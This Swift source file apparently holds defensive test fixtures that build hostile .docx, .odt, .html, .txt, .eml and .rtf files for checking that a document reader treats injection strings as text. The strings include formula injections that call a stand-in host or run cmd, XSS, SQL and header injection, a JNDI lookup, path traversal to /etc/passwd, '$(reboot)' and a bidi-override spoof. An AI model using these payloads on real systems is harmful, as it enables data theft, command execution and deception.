import Reading

extension HostileFile {
    /// What another program might take for an order; a reader takes it for text.
    static let orders = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE delivery; --",
        "\" OR 1=1 --",
        "Ann%0d%0aBcc: x@y.example", "${jndi:ldap://x.example/a}", "{{7*7}}", "%s%s%n",
        "../../../../etc/passwd", "$(reboot)", "`reboot`",
        "&lt;b&gt;", "\\u0000", "]]>", "-->",
    ]

    private static func rows(_ row: ([String]) -> String) -> String {
        orders.map { row([$0, "Head Teacher", $0, "Yes"]) }.joined()
    }

    static let injections: [HostileFile] = [
        HostileFile("orders.docx", .read(orders)) {
            Packed.word(
                body: "<w:tbl>"
                    + rows { cells in
                        "<w:tr>\(cells.map { Packed.cell(MarkupMutator.escaped($0)) }.joined())</w:tr>"
                    } + "</w:tbl>"
            )
        },
        HostileFile("orders.odt", .read(orders)) {
            Packed.open(
                body: "<table:table>"
                    + rows { cells in
                        "<table:table-row>\(cells.map { "<table:table-cell><text:p>\(MarkupMutator.escaped($0))</text:p></table:table-cell>" }.joined())</table:table-row>"
                    } + "</table:table>"
            )
        },
        HostileFile(
            "orders.html",
            .read(orders),
            text: {
                "<html><body><table>"
                    + rows { cells in
                        "<tr>\(cells.map { "<td>\(MarkupMutator.escaped($0))</td>" }.joined())</tr>"
                    } + "</table>"
            }
        ),
        HostileFile(
            "orders.txt",
            .read(orders),
            text: { "Strategy meeting\n\nPresent:\n\n" + orders.joined(separator: "\n\n") }
        ),
        HostileFile(
            "orders.eml",
            .read(orders),
            text: {
                "From: a@b.example\r\nTo: c@d.example\r\nMessage-ID: <a@b>\r\nSubject: a\r\n Bcc: x@y.example\r\n\r\n"
                    + orders.joined(separator: "\r\n\r\n")
            }
        ),
        HostileFile(
            "orders.rtf",
            .read(orders.filter { !$0.contains("\\") }),
            text: {
                "{\\rtf1\\ansi "
                    + orders.filter { !$0.contains("\\") }.map {
                        $0.replacing("{", with: "\\{").replacing("}", with: "\\}") + "\\par "
                    }.joined() + "}"
            }
        ),
        HostileFile("turned-names.docx", .read(["Ann\u{202E}lleB"])) {
            Packed.word(body: Packed.paragraph("Ann\u{202E}lleB\u{202C} \u{200F}\u{2066}Bob\u{2069}"))
        },
    ]
}
